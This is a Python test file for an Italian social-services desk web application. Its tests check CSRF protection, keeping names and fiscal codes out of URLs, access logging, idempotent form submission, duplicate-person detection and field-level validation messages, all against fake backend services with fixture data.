async def test_an_outings_operators_are_desk_users_of_the_city_or_of_the_cooperative(desk: Desk) -> None:
    """ "operatrice\\nnessuno" was accepted and the outing shown with "nessuno" among its operators: checked now as the
    agenda checks an appointment's operator, refused at the operators' field."""
    posted = outreach_services(desk.services)
    today = clock.today().isoformat()
    form = {"unit_id": "unit-7f3a", "on": today, "start_time": "20:00", "end_time": "23:00", "places": "Porta Nuova"}
    await desk.as_operator(MARIA)
    for staff, who in (("maria\nnessuno", "nessuno"), ("maria, sara", "sara"), ("rpd", "rpd")):
        r = await desk.client.post("/outreach/outings", data=form | {"csrf": "csrf-maria", "staff": staff})
        assert r.status_code == 422, (staff, r.text)
        said = f"«{who}» non è un operatore del suo Comune o del suo ente"
        assert 'id="staff-error"' in r.text and said in text_of(r.text), text_of(r.text)
    await desk.as_operator(LUCA)  # a cooperative's outing: its own operators
    r = await desk.client.post("/outreach/outings", data=form | {"csrf": "csrf-luca", "staff": "luca\nmaria"})
    assert r.status_code == 422 and "«maria» non è un operatore" in text_of(r.text)
    assert posted == []
    r = await desk.client.post("/outreach/outings", data=form | {"csrf": "csrf-luca", "staff": "luca"})
    assert r.status_code == 303, r.text
    await desk.as_operator(MARIA)
    r = await desk.client.post("/outreach/outings", data=form | {"csrf": "csrf-maria", "staff": "maria\ngiulia\nluca"})
    assert r.status_code == 303, r.text
    assert [p["staff"] for p in posted] == [["luca"], ["maria", "giulia", "luca"]]


async def test_the_search_sends_names_and_fiscal_codes_in_a_post_not_in_the_address(desk: Desk) -> None:
    """`/?name=amina+okafr&fiscal_code=…` put a person's name and fiscal code in the browser's history and the
    proxies' logs. The search is a form post (CSRF-checked); a GET shows the empty search, but a case number, no
    personal data, is still found from the to-do list's link."""
    asked: list[dict[str, str]] = []

    def persons(request: httpx.Request) -> Any:
        asked.append({k: v for k, v in json.loads(request.content).items() if v is not None})
        return [{"person_id": "p-1", "birth_date": "1985-03-14", "sex": "female", "nationality": "NG",
                 "identity": {"given_name": "Amina", "family_name": "Okafor"}}]  # fmt: skip

    # Nor in intake's address: the desk asks with the terms in the body (it forwarded them as GET /persons?name=…)
    desk.services.answers[("intake", "POST", "/persons/search")] = persons
    await desk.as_operator(MARIA)
    page = await desk.client.get("/", params={"name": "amina okafr", "fiscal_code": "KFRMNA85C54Z335X"})
    assert page.status_code == 200 and asked == [] and "amina okafr" not in page.text
    assert '<form method="post" action="/" class="search">' in page.text and 'name="csrf"' in page.text
    found = await desk.client.post("/", data={"csrf": "csrf-maria", "name": "amina okafr", "purpose": "case_review"})
    assert found.status_code == 200 and asked == [{"name": "amina okafr"}], asked
    assert '<a href="/persons/p-1?purpose=case_review">Amina Okafor</a>' in found.text
    assert 'value="amina okafr"' in found.text  # what was searched, on the form
    assert (await desk.client.post("/", data={"name": "amina"})).status_code == 403  # no CSRF token
    by_case = await desk.client.get("/", params={"case_id": "c-8e2b7d41a9f0"})
    assert asked[-1] == {"case_id": "c-8e2b7d41a9f0"} and "Amina Okafor" in by_case.text
    assert not [r.url for r in desk.services.requests if "amina" in str(r.url).lower() or "KFRMNA" in str(r.url)]


async def test_every_person_a_search_shows_is_in_the_access_log(desk: Desk) -> None:
    """A search's results show each person found by name, birth date, sex and nationality (a fiscal code typed says
    who holds it; a fuzzy name lists several persons), and none of it was in the access log: the DPO could not tell
    who had looked a person up. Each person shown is logged as `search`, with the purpose chosen, in the DPO's
    page in Italian."""

    def persons(request: httpx.Request) -> Any:
        return [{"person_id": "p-1", "birth_date": "1985-03-14", "sex": "female", "nationality": "NG",
                 "identity": {"given_name": "Amina", "family_name": "Okafor"}},
                {"person_id": "p-2", "birth_date": "1987-01-02", "sex": "female", "nationality": "NG",
                 "identity": {"given_name": "Aminata", "family_name": "Okafor"}}]  # fmt: skip

    desk.services.answers[("intake", "POST", "/persons/search")] = persons
    await desk.as_operator(MARIA)
    found = await desk.client.post("/", data={"csrf": "csrf-maria", "name": "amina okafor", "purpose": "case_review"})
    assert found.status_code == 200 and "Aminata Okafor" in found.text
    async with desk.pool.acquire() as conn:
        rows = await conn.fetch("select person_id, operator, purpose, action, outcome from access_log order by 1")
    assert [tuple(r) for r in rows] == [
        ("p-1", "maria", "case_review", "search", "shown"),
        ("p-2", "maria", "case_review", "search", "shown"),
    ], rows
    await desk.as_operator(RPD)
    text = text_of((await desk.client.get("/access-log?person_id=p-2")).text)
    assert "Risultati della ricerca" in text, text


async def test_refusals_of_the_desk_itself_are_its_own_pages_and_a_forms_address_leads_back_to_its_page(
    desk: Desk,
) -> None:
    """/access-log for a non-DPO answered plain text "not for this role"; a form's address opened from the address bar
    answered JSON {"detail":"Method Not Allowed"}."""
    await desk.as_operator(MARIA)
    for path in ("/access-log", "/access-log.csv"):
        r = await desk.client.get(path)
        assert r.status_code == 403 and r.headers["content-type"].startswith("text/html"), r.text
        assert "Questa pagina non è prevista per il suo ruolo" in text_of(r.text), text_of(r.text)
        assert "Cerca una persona" in text_of(r.text)  # the operator's menu, to go on from there
    english = await desk.client.get("/access-log?lang=en")
    assert "This page is not for your role" in text_of(english.text)
    missing = await desk.client.get("/nessuna-pagina?lang=it")  # back to Italian
    assert missing.status_code == 404 and "Pagina non trovata" in text_of(missing.text), missing.text
    r = await desk.client.post("/persons/p-1/notes", data={"text": "x"})  # no CSRF token: the desk's page too
    assert r.status_code == 403 and "Il modulo è scaduto" in text_of(r.text), r.text
    for form, back in (("/persons/p-1/notes", "/persons/p-1"), ("/outreach/outings", "/outreach"),
                       ("/agenda/apt-1/cancel", "/agenda"), ("/approvals/r-1", "/approvals"),
                       ("/outreach/contacts/ct-1/link", "/outreach"), ("/logout", "/")):  # fmt: skip
        r = await desk.client.get(form)
        assert (r.status_code, r.headers.get("location")) == (303, back), (form, r.status_code, r.text)


async def test_a_period_is_sent_only_for_rent_and_utilities(desk: Desk) -> None:
    """A deposit was recorded "dal 1 mar 2027 al 31 mar 2027": the period fields were sent for every kind."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    sent: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("payments", "POST", "/contribution-requests")] = keeping(sent)
    await desk.as_operator(MARIA)
    form = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "amount": "300",
            "period_from": "2027-03-01", "period_to": "2027-03-31"}  # fmt: skip
    for kind in ("deposit", "utilities"):
        assert (await desk.client.post("/persons/p-1/contributions", data=form | {"kind": kind})).status_code == 303
    assert "period_from" not in sent[0][1] and "period_to" not in sent[0][1], sent[0]
    assert (sent[1][1]["period_from"], sent[1][1]["period_to"]) == ("2027-03-01", "2027-03-31")


async def test_a_civic_activity_form_sent_twice_organises_one_activity(desk: Desk) -> None:
    """The civic engagement forms create too (an activity, a session, a certificate): sent twice, one request."""
    organised: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers |= {
        ("intake", "GET", "/civic/activities"): [],
        ("intake", "POST", "/civic/activities"): keeping(organised),
    }
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/civic")).text
    form = {"csrf": "csrf-maria", "form_key": form_key_of(page, "/civic"), "kind": "italian_language_course",
            "title": "Italiano A2", "starts_on": clock.today().isoformat()}  # fmt: skip
    for _ in range(2):
        assert (await desk.client.post("/civic", data=form)).status_code == 303
    assert len(organised) == 2 and organised[0] == organised[1], organised


async def test_a_consent_form_sent_twice_records_the_consent_once(desk: Desk) -> None:
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    recorded: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/consents")] = keeping(recorded)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    form = {"csrf": "csrf-maria", "form_key": form_key_of(page, "/persons/p-1/consents"), "purpose": "service",
            "granted": "true"}  # fmt: skip
    for _ in range(2):
        assert (await desk.client.post("/persons/p-1/consents", data=form)).status_code == 303
    assert recorded[0] == recorded[1], recorded


def once(effects: list[str], refusal: str) -> Handler:
    """A one-shot action as the services answer it (their `idempotent`): the first request takes effect, the same
    Idempotency-Key again gets the first answer, any other key the 409 of an action already taken."""
    answered: dict[str, httpx.Response] = {}

    def answer(request: httpx.Request) -> httpx.Response:
        key = request.headers["Idempotency-Key"]
        if key not in answered:
            if effects:
                return httpx.Response(409, json={"status": 409, "field": "", "reason": refusal})
            effects.append(key)
            answered[key] = httpx.Response(201, json={})
        return answered[key]

    return answer


async def test_an_approval_sent_twice_is_one_approval_and_the_same_success_page(desk: Desk) -> None:
    """A double click on "Approva" sent a fresh Idempotency-Key each time: payments approved once and refused the
    second ("already approved"), and that refusal was the page the operator saw. The form carries its key now."""
    approved: list[str] = []
    desk.services.answers |= {
        ("payments", "GET", "/contribution-requests"): [
            {"request_id": "r-1", "case_id": "c-1", "kind": "rent", "amount_cents": 12000,
             "requested_by": "desk.maria", "status": "requested"}],
        ("payments", "POST", "/contribution-requests/r-1/approval"): once(
            approved, "request is approved, only a requested one can be approved"),
    }  # fmt: skip
    await desk.as_operator(GIULIA)
    page = (await desk.client.get("/approvals")).text
    form = {"csrf": "csrf-giulia", "form_key": form_key_of(page, "/approvals/r-1")}
    for _ in range(2):
        r = await desk.client.post("/approvals/r-1", data=form)
        assert r.status_code == 303 and r.headers["location"] == "/approvals?done=r-1", r.text
    assert approved == [f"desk:{form['form_key']}:approval:r-1"]  # one effect


async def test_every_one_shot_form_sent_twice_is_the_same_request(desk: Desk) -> None:
    """The agenda's outcome, move and cancel, linking a street contact and the attendance register had no form key:
    sent twice, the second was refused (the appointment's outcome already recorded, …) instead of answered as the
    first. Every form that changes something carries its key now; only the login, the logout and the search do not
    (they change nothing at the services)."""
    now = clock.now()
    past, later = now - timedelta(hours=2), now + timedelta(days=1)

    def appointment(aid: str, starts: Any) -> dict[str, Any]:
        return {"appointment_id": aid, "agenda": "desk", "operator": "maria", "unit_id": None, "person_id": "p-1",
                "street_id": None, "purpose": "plan_review", "starts_at": starts.isoformat(),
                "ends_at": (starts + timedelta(minutes=30)).isoformat(), "status": "booked", "outcome": None,
                "booked_by": "desk.maria"}  # fmt: skip

    effects: dict[str, list[str]] = {}
    desk.services.answers[("payments", "GET", "/contribution-requests")] = [
        {"request_id": "r-1", "case_id": "c-1", "kind": "rent", "amount_cents": 12000, "requested_by": "desk.maria",
         "status": "requested"}]  # fmt: skip
    for path in ("/appointments/apt-past/outcome", "/appointments/apt-next/move", "/appointments/apt-next/cancel",
                 "/street-contacts/ct-4c2e/link", "/civic/attendance"):  # fmt: skip
        effects[path] = []
        desk.services.answers[("intake", "POST", path)] = once(effects[path], "already done")
    activity = {"activity_id": "act-1", "title": "Italiano A2", "session_list": []}
    desk.services.answers |= {
        ("intake", "GET", "/mobile-units"): [],
        ("intake", "GET", "/outings/out-1"): {
            "outing_id": "out-1", "unit_id": "unit-7f3a", "on_date": now.date().isoformat(), "start_time": "20:00:00",
            "end_time": "23:30:00", "places": ["Porta Nuova"], "staff": ["maria"],
            "contacts": [{"contact_id": "ct-4c2e", "street_id": "sp-91ab", "has_nickname": False,
                          "place": "Porta Nuova", "age_band": "18_29", "sex": "male", "needs_observed": [],
                          "services_offered": [], "contacted_on": now.date().isoformat(),
                          "first_contact_on": now.date().isoformat(), "person_id": None, "linked_on": None}]},
        ("intake", "GET", "/civic/activities/act-1"): activity,
        ("intake", "GET", "/civic/activities/act-1/sessions/ses-1"): {
            "session_id": "ses-1", "held_on": now.date().isoformat(), "place": "Biblioteca", "duration_minutes": 90,
            "register": [{"person_id": "p-1", "present": None}]},
    }  # fmt: skip
    await desk.as_operator(MARIA)
    sends = []
    for day, items in ((past, [appointment("apt-past", past)]), (later, [appointment("apt-next", later)])):
        desk.services.answers[("intake", "GET", "/appointments")] = items
        agenda = (await desk.client.get(f"/agenda?day={day.date().isoformat()}")).text
        base = {"csrf": "csrf-maria", "day": day.date().isoformat()}
        for action, fields in (("outcome", {"outcome": "attended"}), ("move", {"new_time": "11:00", "minutes": "30"}),
                               ("cancel", {"reason": "person_request"})):  # fmt: skip
            path = f"/agenda/{items[0]['appointment_id']}/{action}"
            if f'action="{path}"' in agenda:
                sends.append((path, base | fields | {"form_key": form_key_of(agenda, path)}, agenda))
    outing = (await desk.client.get("/outreach/outings/out-1")).text
    link = "/outreach/contacts/ct-4c2e/link"
    linking = {"csrf": "csrf-maria", "outing_id": "out-1", "person_id": "p-1", "linked_on": now.date().isoformat()}
    sends.append((link, linking | {"form_key": form_key_of(outing, link)}, outing))
    register = (await desk.client.get("/civic/act-1/sessions/ses-1")).text
    path = "/civic/act-1/sessions/ses-1"
    sends.append((path, {"csrf": "csrf-maria", "row_p-1": "1", "present_p-1": "1",
                         "form_key": form_key_of(register, path)}, register))  # fmt: skip
    assert [s[0] for s in sends] == ["/agenda/apt-past/outcome", "/agenda/apt-next/move", "/agenda/apt-next/cancel",
                                     link, path]  # fmt: skip
    for path, form, _page in sends:
        first = await desk.client.post(path, data=form)
        second = await desk.client.post(path, data=form)
        assert first.status_code == second.status_code == 303, (path, text_of(second.text))
        assert first.headers["location"] == second.headers["location"], path
    assert all(len(done) == 1 for done in effects.values()), effects
    for page in {s[2] for s in sends} | {(await desk.client.get("/approvals")).text}:
        for action in re.findall(r'<form method="post" action="([^"]+)"', page):
            if action not in ("/logout", "/", "/login"):
                form_key_of(page, action)  # every form that changes something carries its key


async def test_the_desk_admin_refuses_a_service_schema_that_does_not_exist(desk: Desk) -> None:
    """From a review: `lgnet-desk-admin --intake-schema intak` created the schema, then failed on a missing table,
    leaving the stray schema behind. The schema is named and nothing is created."""
    from lgnet_desk.entrypoints.admin import add_operator

    typo = {"intake": "intak_x", "housing": "housng_x", "payments": "paymnts_x"}
    op = Operator("nuova", "Nuova Operatrice", OperatorRole.STAFF, "torino", None)
    with pytest.raises(ValueError, match="--intake-schema: no schema 'intak_x'"):
        await add_operator(desk.settings, op, "una-password-lunga", typo)
    async with desk.pool.acquire() as conn:
        assert (
            await conn.fetchval(
                "select count(*) from pg_namespace where nspname = any($1::text[])", list(typo.values())
            )
            == 0
        )


async def test_a_registration_refused_after_its_members_keeps_them_and_a_key_reused_is_said_at_a_field(
    desk: Desk,
) -> None:
    """From a review: when the household (or a consent, or the cooperative's case) was refused after the members were
    registered, the form came back with the members editable; a corrected member sent again under the same key got
    intake's 409 at `headers.idempotency-key`, shown at no field."""
    desk.services.answers[("intake", "POST", "/persons")] = {"person_id": "p-new", "same_as": None}
    desk.services.answers[("intake", "POST", "/consents")] = {}
    desk.services.answers[("intake", "POST", "/households")] = refusing(
        "member_ids", "a member is already in a household"
    )
    await desk.as_operator(MARIA)
    new = (await desk.client.get("/persons/new")).text
    household = {"csrf": "csrf-maria", "form_key": form_key_of(new, "/persons/new"), "m0_given_name": "Amina",
                 "m0_family_name": "Okafor", "m0_birth_date": "1985-03-14", "m0_sex": "female",
                 "m0_nationality": "NG", "consent_service": "on"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=household)
    assert r.status_code == 422
    assert '<input type="hidden" name="m0_person_id" value="p-' in r.text, r.text  # kept: not registered again
    reused = "this Idempotency-Key was already used for a different request"
    conflict = httpx.Response(409, json={"status": 409, "field": "headers.idempotency-key", "reason": reused})
    desk.services.answers[("intake", "POST", "/persons")] = conflict
    r = await desk.client.post("/persons/new", data=household)
    assert r.status_code == 422
    assert 'aria-describedby="m0_given_name-error"' in r.text, r.text  # said next to the member's first field


async def test_a_person_on_file_is_shown_with_her_cartella_instead_of_registered_again(desk: Desk) -> None:
    """From an outside test: the same fiscal code registered again made a new household of her alone each time, and
    the same name and birth date (a colleague going back and resending) a second household. The page says who is on
    file, links her cartella, and registers a namesake only once the operator ticks that she is another person."""
    on_file = {"person_id": "p-aissatou", "birth_date": "1990-03-12", "erased": False,
               "identity": {"given_name": "Aissatou", "family_name": "Diallo"}}  # fmt: skip

    def search(request: httpx.Request) -> httpx.Response:
        terms = json.loads(request.content)
        return httpx.Response(200, json=[on_file] if terms.get("fiscal_code") or terms.get("name") else [])

    desk.services.answers[("intake", "POST", "/persons/search")] = search
    desk.services.answers[("intake", "POST", "/persons")] = {"person_id": "p-new", "same_as": None}
    desk.services.answers[("intake", "POST", "/consents")] = {}
    desk.services.answers[("intake", "POST", "/households")] = {}
    await desk.as_operator(MARIA)
    new = (await desk.client.get("/persons/new")).text
    form = {"csrf": "csrf-maria", "form_key": form_key_of(new, "/persons/new"), "m0_given_name": "Aissatou",
            "m0_family_name": "Diallo", "m0_birth_date": "12/03/1990", "m0_sex": "female", "m0_nationality": "SN",
            "m0_fiscal_code": "DLLSST90C52Z319F", "consent_service": "on"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=form)
    assert r.status_code == 422
    assert "persona già registrata con questo codice fiscale: ne apra la cartella" in r.text, r.text
    assert 'href="/persons/p-aissatou?purpose=case_work">Apra la cartella della persona già registrata</a>' in r.text
    assert "m0_not_on_file" not in r.text  # the same fiscal code is the same person: no "another person" to tick
    assert ("intake", "POST", "/persons") not in desk.services.calls
    r = await desk.client.post("/persons/new", data=form | {"m0_fiscal_code": ""})  # by name and birth date
    assert r.status_code == 422
    assert "una persona con questo nome e questa data di nascita è già registrata" in r.text, r.text
    assert '<input type="checkbox" id="m0_not_on_file" name="m0_not_on_file">' in r.text
    assert ("intake", "POST", "/persons") not in desk.services.calls
    r = await desk.client.post("/persons/new", data=form | {"m0_fiscal_code": "", "m0_not_on_file": "on"})
    assert r.status_code == 303 and ("intake", "POST", "/households") in desk.services.calls


async def test_an_objective_of_a_plan_is_moved_on_at_the_desk(desk: Desk) -> None:
    """From an outside test: a plan's objectives stayed "Da avviare" for ever — the desk had no form for intake's
    `POST /cases/plans/objectives`. Each plan of an open case has one: the objective (of that plan), its state and
    the day; sent once per form (its key), recorded, said at the cases' section; refused, said at its field with the
    choices kept."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    sent: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/cases/plans/objectives")] = keeping(sent)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    form = page.split('action="/persons/p-1/objectives"', 1)[1].split("</form>", 1)[0]
    assert '<input type="hidden" name="plan_id" value="plan-1">' in form
    assert '<option value="employment">Inserimento lavorativo</option>' in form  # that plan's objectives only
    assert "housing_autonomy" not in form
    assert '<option value="achieved">' in form
    key = form_key_of(page, "/persons/p-1/objectives")
    update = {"csrf": "csrf-maria", "form_key": key, "case_id": "c-8e2b7d41a9f0", "plan_id": "plan-1",
              "objective": "employment", "status": "achieved", "on": typed_day(today)}  # fmt: skip
    r = await desk.client.post("/persons/p-1/objectives", data=update)
    assert r.status_code == 303 and r.headers["location"].endswith("done=objectives#h-cases"), r.headers
    [(key, body)] = sent
    assert body == {"case_id": "c-8e2b7d41a9f0", "plan_id": "plan-1", "objective": "employment", "status": "achieved",
                    "on": today}, body  # fmt: skip
    assert key.startswith("desk:")
    shown = text_of((await desk.client.get(r.headers["location"])).text)
    assert "Obiettivo aggiornato." in shown, shown
    desk.services.answers[("intake", "POST", "/cases/plans/objectives")] = refusing("on", "is in the future")
    r = await desk.client.post("/persons/p-1/objectives", data=update | {"status": "in_progress"})
    assert r.status_code == 422 and "è nel futuro" in r.text
    assert '<option value="in_progress" selected>' in r.text


async def test_a_persons_employment_is_recorded_over_time_at_the_desk(desk: Desk) -> None:
    """From an outside test: employment was recorded only inside a needs assessment — no "found work from …" over
    time, though the timeline shows it and the reports compare employment at intake and at close. The cartella's
    form sends intake's `POST /employment` (the person, the case, the status, since when), the day typed gg/mm/aaaa."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    sent: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/employment")] = keeping(sent)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    form = page.split('action="/persons/p-1/employment"', 1)[1].split("</form>", 1)[0]
    assert '<option value="">— scelga —</option>' in form and "selected" not in form  # no status chosen for her
    record = {
        "csrf": "csrf-maria",
        "form_key": form_key_of(page, "/persons/p-1/employment"),
        "case_id": "c-8e2b7d41a9f0",
        "employment_now": "employed_fixed_term",
        "employment_as_of": typed_day(earlier),
    }
    r = await desk.client.post("/persons/p-1/employment", data=record)
    assert r.status_code == 303 and r.headers["location"].endswith("done=employment#h-timeline"), r.headers
    [(_, body)] = sent
    assert body == {
        "person_id": "p-1",
        "case_id": "c-8e2b7d41a9f0",
        "status": "employed_fixed_term",
        "as_of": earlier,
    }, body
    assert "Situazione lavorativa registrata." in text_of((await desk.client.get(r.headers["location"])).text)
    desk.services.answers[("intake", "POST", "/employment")] = refusing("as_of", "is in the future")
    r = await desk.client.post("/persons/p-1/employment", data=record)
    assert r.status_code == 422 and 'id="employment_as_of-error"' in r.text and "è nel futuro" in r.text


async def test_a_persons_contact_languages_and_literacy_are_completed_at_the_cartella(desk: Desk) -> None:
    """From an outside test: phone, address, languages and "Sa leggere e scrivere" were shown on the cartella ("—")
    and could be entered nowhere. The details form sends intake's PATCH with only what changed, languages typed by
    their names sent as codes; a name no language has is said at the field, in Italian, nothing sent."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    sent: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "PATCH", "/persons/p-1")] = keeping(sent, 200)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    shown = {"phone": "", "address": "", "languages": "", "literate": ""}
    base = {"csrf": "csrf-maria", "form_key": form_key_of(page, "/persons/p-1/details")}
    base |= {f"was_{k}": v for k, v in shown.items()}
    typed = {"phone": "+39 347 1234567", "address": "", "languages": "Arabo, francese", "literate": "no"}
    r = await desk.client.post("/persons/p-1/details", data=base | typed)
    assert r.status_code == 303 and r.headers["location"].endswith("done=details#h-person"), r.headers
    [(_, body)] = sent
    assert body == {"identity": {"phone": "+39 347 1234567"}, "languages": ["ar", "fr"], "literate": False}, body
    assert "Dati della persona salvati." in text_of((await desk.client.get(r.headers["location"])).text)
    sent.clear()
    r = await desk.client.post("/persons/p-1/details", data=base | typed | {"languages": "arabo, marziano"})
    assert r.status_code == 422 and "nessuna lingua si chiama «marziano»" in r.text and sent == []
    assert 'value="+39 347 1234567"' in r.text  # what was typed, kept
    unchanged = base | {"was_phone": "+39 347 1234567", "phone": "+39 347 1234567", "languages": "", "literate": ""}
    r = await desk.client.post("/persons/p-1/details", data=unchanged)
    assert r.status_code == 303 and sent == []  # nothing changed: nothing sent


# Selects that record a fact about a person: a first option chosen for the operator recorded it unseen (a document
# filed as a residence permit, every member registered as female, an assessment as homeless and unemployed).
CHOSEN_BY_THE_OPERATOR = {
    "/persons/p-1": ("document_kind", "purpose", "granted", "action_area", "channel", "housing_situation",
                     "employment_status", "kind", "voucher_kind", "case_outcome"),
    "/persons/new": ("m0_sex", "m1_sex"),
}  # fmt: skip


async def test_no_choice_is_made_for_the_operator(desk: Desk) -> None:
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    sent: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/cases/assessments")] = keeping(sent)
    await desk.as_operator(MARIA)
    for path, names in CHOSEN_BY_THE_OPERATOR.items():
        page = (await desk.client.get(path)).text
        for name in names:
            select = re.search(rf'<select id="{name}" name="{name}"[^>]*>(.*?)</select>', page, re.S)
            assert select is not None, (path, name)
            if name != "m1_sex":  # a member's row may stay empty: required when filled (the service says so)
                assert " required" in select.group(0).split(">", 1)[0], (path, name)
            first = re.match(r"\s*<option([^>]*)>([^<]*)</option>", select.group(1))
            assert first is not None and 'value=""' in first.group(1), (path, name, select.group(1)[:200])
            assert "selected" not in select.group(1).split("</option>", 1)[1], (path, name)
            assert first.group(2) == "— scelga —", first.group(2)
    # Sent without a choice anyway (no browser check): left out of the request, so the service names it required.
    await desk.client.post("/persons/p-1/assessments", data={
        "csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "housing_situation": "", "employment_status": "",
        "monthly_income": "0", "assessed_on": today})  # fmt: skip
    assert sent and not {"housing_situation", "employment_status"} & set(sent[-1][1]), sent  # "Field required"


async def test_an_upload_without_a_file_or_a_kind_says_so(desk: Desk) -> None:
    """'Carica' with no file chosen said 'il file è vuoto' (the browser sends an empty part); no kind: not said."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    await desk.as_operator(MARIA)
    # What a browser sends for a file input left empty: a part with an empty file name and no bytes.
    boundary = "lgnet-test-boundary"
    parts = [
        'Content-Disposition: form-data; name="csrf"\r\n\r\ncsrf-maria',
        'Content-Disposition: form-data; name="document_kind"\r\n\r\n',
        'Content-Disposition: form-data; name="document"; filename=""\r\n'
        "Content-Type: application/octet-stream\r\n\r\n",
    ]
    body = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts) + f"--{boundary}--\r\n"
    r = await desk.client.post(
        "/persons/p-1/documents",
        content=body.encode(),
        headers={"content-type": f"multipart/form-data; boundary={boundary}"},
    )
    assert r.status_code == 422, r.text
    said = text_of(r.text)
    assert "scelga un file" in said and "il file è vuoto" not in said, said
    assert 'id="document_kind-error"' in r.text and "campo obbligatorio" in said


async def test_a_search_with_nothing_given_says_what_to_give(desk: Desk) -> None:
    """'Cerca' with every field empty redrew the empty form without a word."""
    await desk.as_operator(MARIA)
    r = await desk.client.post("/", data={"csrf": "csrf-maria", "name": " ", "fiscal_code": "", "case_id": ""})
    assert r.status_code == 200
    # said alone, as the page's alert: a sentence (refusals are fragments, written to sit next to a field)
    assert "Indichi un nome, un codice fiscale o un numero di pratica." in text_of(r.text)
    assert ("intake", "POST", "/persons/search") not in desk.services.calls
    assert 'role="alert"' not in (await desk.client.get("/")).text  # the page opened afresh says nothing


def keeping_search(asked: list[dict[str, Any]]) -> Handler:
    """Intake's search finding nobody, each request's terms kept in `asked`."""

    def answer(request: httpx.Request) -> httpx.Response:
        asked.append(json.loads(request.content))
        return httpx.Response(200, json=[])

    return answer


async def test_a_mistyped_fiscal_code_is_said_at_the_field_not_as_nobody_found(desk: Desk) -> None:
    """A code with a wrong check character or a character short said only "Nessuna persona trovata…": the registration
    form says what is wrong with the same code. The search checks it as intake does, says it at the field, and does
    not ask intake (a code that is no code finds nobody); a right code is searched for."""
    desk.services.answers[("intake", "POST", "/persons/search")] = []
    await desk.as_operator(MARIA)
    for typed, said in [
        ("DLLSST90C52Z319X", "non è un codice fiscale valido: carattere di controllo errato"),
        ("DLLSST90C52Z31", "non è un codice fiscale valido: servono 16 caratteri"),
    ]:
        r = await desk.client.post("/", data={"csrf": "csrf-maria", "name": "", "fiscal_code": typed, "case_id": ""})
        assert r.status_code == 422 and said in text_of(r.text), text_of(r.text)
        assert (
            'aria-invalid="true" aria-describedby="fiscal_code-error"' in r.text and 'id="fiscal_code-error"' in r.text
        )
        assert f'value="{typed}"' in r.text and "Nessuna persona trovata" not in text_of(r.text)
    assert ("intake", "POST", "/persons/search") not in desk.services.calls
    right = await desk.client.post("/", data={"csrf": "csrf-maria", "fiscal_code": "DLLSST90C52Z319F"})
    assert right.status_code == 200 and "Nessuna persona trovata" in text_of(right.text)
    assert 'id="fiscal_code-error"' not in right.text
    # A code typed in the name's field (no name has digits) is searched, and checked, as a fiscal code
    r = await desk.client.post("/", data={"csrf": "csrf-maria", "name": "DLLSST90C52Z319X"})
    assert r.status_code == 422 and 'id="fiscal_code-error"' in r.text, text_of(r.text)
    assert '<input id="fiscal_code" name="fiscal_code" value="DLLSST90C52Z319X"' in r.text
    asked: list[dict[str, Any]] = []
    desk.services.answers[("intake", "POST", "/persons/search")] = keeping_search(asked)
    await desk.client.post("/", data={"csrf": "csrf-maria", "name": " dllsst90c52z319f "})
    assert [{k: v for k, v in a.items() if v} for a in asked] == [{"fiscal_code": "dllsst90c52z319f"}], asked


# ------------------------------------------------------------ the agenda names the person (an outside tester's round)


FATIMA = {"person_id": "p-f33adeeca7d4", "birth_date": "1990-05-02", "sex": "female", "nationality": "MA",
          "identity": {"given_name": "Fatima", "family_name": "El Amrani"}}  # fmt: skip
AMINA = {"person_id": "p-1", "birth_date": "1985-03-14", "sex": "female", "nationality": "NG",
         "identity": {"given_name": "Amina", "family_name": "Okafor"}}  # fmt: skip


def persons_by_name(services: FakeServices, *persons: dict[str, Any]) -> None:
    """Intake's POST /persons/search by name (here: exactly the given and family names, or a word of them, as a fuzzy
    search would also find), and GET /persons/{id} of each person; intake's booking refuses a person it does not know
    as it does (404 at person_id)."""

    def search(request: httpx.Request) -> list[dict[str, Any]]:
        terms = json.loads(request.content)
        if "person_ids" in terms:  # those of these persons the operator may read, in one call
            return [p for pid in terms["person_ids"] for p in persons if p["person_id"] == pid]
        words = set(terms["name"].lower().split())
        return [p for p in persons if words & set(" ".join(p["identity"].values()).lower().split())]

    services.answers[("intake", "POST", "/persons/search")] = search
    for p in persons:
        services.answers[("intake", "GET", f"/persons/{p['person_id']}")] = p


async def test_a_name_typed_for_the_appointment_books_the_one_person_it_names_and_says_in_italian_otherwise(
    desk: Desk,
) -> None:
    """The field asked for an identifier the desk shows nowhere; a tester typed the name ("Fatima El Amrani") and read
    "no person Fatima El Amrani", in English on the Italian page. A name that is exactly one person's the operator may
    see books that person; none, or several, is said in Italian with what to do instead."""
    booked = agenda_services(desk.services)
    mario = {"person_id": "p-m1", "identity": {"given_name": "Mario", "family_name": "Rossi"}}
    other_mario = {"person_id": "p-m2", "identity": {"given_name": "Mario", "family_name": "Rossi"}}
    persons_by_name(desk.services, FATIMA, AMINA, mario, other_mario)
